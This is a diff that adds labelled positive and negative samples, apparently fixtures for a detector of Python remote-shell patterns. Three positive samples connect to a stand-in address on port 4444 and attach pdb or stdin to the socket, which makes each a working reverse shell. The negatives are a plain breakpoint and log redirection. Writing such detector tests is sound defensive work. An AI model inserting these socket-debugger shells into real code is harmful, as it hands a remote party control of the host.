@@ -377,3 +377,24 @@ def exec(s):
     print(s)
 globals().pop("exec")
 exec(input())
+#@ pos pdb on a socket's file
+import pdb, socket
+f = socket.create_connection(("203.0.113.1", 4444)).makefile("rw")
+pdb.Pdb(stdin=f, stdout=f).set_trace()
+#@ pos stdin replaced by a socket, then breakpoint()
+import socket, sys
+s = socket.create_connection(("203.0.113.1", 4444))
+sys.stdin = s.makefile("r")
+breakpoint()
+#@ pos a socket dup2()ed onto stdin
+import os, socket, pdb
+s = socket.create_connection(("203.0.113.1", 4444))
+os.dup2(s.fileno(), 0)
+pdb.set_trace()
+#@ neg a plain debugger stop
+import pdb
+pdb.set_trace()
+#@ neg a log file dup2()ed onto stdout
+import os
+log = open("daemon.log", "a")
+os.dup2(log.fileno(), 1)
